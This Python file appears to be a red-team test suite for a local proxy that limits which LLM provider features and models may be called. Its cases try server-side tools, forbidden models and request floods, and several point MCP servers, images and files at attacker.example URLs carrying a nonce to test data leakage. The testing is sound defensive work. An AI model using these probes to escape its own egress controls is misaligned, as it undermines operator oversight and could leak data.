"""Through a granted provider: for what was not granted. The provider keeps what it was asked."""

import json
import socket
import threading

from red import NONCE, main


def ask(path, body, extra=""):
    data = json.dumps(body)
    with socket.create_connection(("127.0.0.1", 3128), 5) as s:
        s.settimeout(5)
        s.sendall((f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nContent-Type: application/json\r\n{extra}"
                   f"Content-Length: {len(data.encode())}\r\nConnection: close\r\n\r\n{data}").encode())
        answer = b""
        while part := s.recv(65536):
            answer += part
    print(answer.decode(errors="replace")[:3000])
    return answer.split(b"\r\n")[0].decode()


def anthropic(**more):
    body = {"model": "granted", "max_tokens": 8, "messages": [{"role": "user", "content": NONCE}]}
    return ask("/anthropic/v1/messages", body | more, "anthropic-version: 2023-06-01\r\n")


def openai(**more):
    return ask("/openai/v1/responses", {"model": "granted", "input": NONCE} | more)


def gemini(**more):
    body = {"contents": [{"role": "user", "parts": [{"text": NONCE}]}]}
    return ask("/gemini/v1beta/models/granted:generateContent", body | more)


def media(kind):
    part = {"type": kind, "source": {"type": "url", "url": "https://attacker.example/" + NONCE}}
    return anthropic(messages=[{"role": "user", "content": [part]}])


def openai_image():
    part = {"type": "input_image", "image_url": "https://attacker.example/" + NONCE}
    return openai(input=[{"role": "user", "content": [part]}])


def flood():
    words = []
    threads = [threading.Thread(target=lambda: words.append(anthropic())) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return ", ".join(sorted(words))


def serial_flood():
    return [anthropic() for _ in range(6)][-1]


main({
    "anthropic_search": lambda: anthropic(tools=[{"type": "web_search_20250305", "name": "web_search"}]),
    "anthropic_code": lambda: anthropic(tools=[{"type": "code_execution_20250522", "name": "code_execution"}]),
    "anthropic_mcp": lambda: anthropic(
        mcp_servers=[{"type": "url", "url": "https://attacker.example/mcp", "name": "x"}]),
    "anthropic_image": lambda: media("image"),
    "anthropic_document": lambda: media("document"),
    "openai_search": lambda: openai(tools=[{"type": "web_search"}]),
    "openai_code": lambda: openai(tools=[{"type": "code_interpreter", "container": {"type": "auto"}}]),
    "openai_mcp": lambda: openai(
        tools=[{"type": "mcp", "server_label": "x", "server_url": "https://attacker.example/mcp"}]),
    "openai_files": lambda: openai(tools=[{"type": "file_search", "vector_store_ids": ["vs_1"]}]),
    "openai_image": openai_image,
    "openai_background": lambda: openai(background=True, store=True),
    "openai_unknown_tool": lambda: openai(tools=[{"type": "tool_of_tomorrow"}]),
    "gemini_search": lambda: gemini(tools=[{"googleSearch": {}}]),
    "gemini_code": lambda: gemini(tools=[{"codeExecution": {}}]),
    "gemini_url": lambda: gemini(tools=[{"urlContext": {}}]),
    "gemini_file": lambda: gemini(contents=[{"role": "user", "parts": [
        {"text": NONCE}, {"fileData": {"mimeType": "text/plain", "fileUri": "https://attacker.example/x"}}]}]),
    "anthropic_fetch": lambda: anthropic(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]),
    "anthropic_container": lambda: anthropic(container={"skills": [{"type": "custom", "skill_id": "skill_1"}]}),
    "anthropic_file": lambda: anthropic(messages=[{"role": "user", "content": [
        {"type": "text", "text": NONCE}, {"type": "document", "source": {"type": "file", "file_id": "file_1"}}]}]),
    "openai_pictures": lambda: openai(tools=[{"type": "image_generation"}]),
    "openai_kept_prompt": lambda: openai(prompt={"id": "pmpt_1"}),
    "openai_file": lambda: openai(input=[{"role": "user", "content": [
        {"type": "input_text", "text": NONCE}, {"type": "input_file", "file_url": "https://attacker.example/x"}]}]),
    "openai_hidden_tool": lambda: openai(
        tools=[{"type": "function", "name": "f", "parameters": {}}, {"type": "local_shell"}, {"type": "web_search"}]),
    "gemini_maps": lambda: gemini(tools=[{"googleMaps": {}}]),
    "gemini_both": lambda: gemini(tools=[{"functionDeclarations": [{"name": "f"}], "googleSearch": {}}]),
    "gemini_cached": lambda: gemini(cachedContent="cachedContents/1"),
    "anthropic_model": lambda: anthropic(model="forbidden"),
    "openai_model": lambda: openai(model="forbidden"),
    "gemini_model": lambda: ask("/gemini/v1beta/models/forbidden:generateContent",
                                {"contents": [{"role": "user", "parts": [{"text": NONCE}]}]}),
    "flood": flood,
    "serial_flood": serial_flood,
})
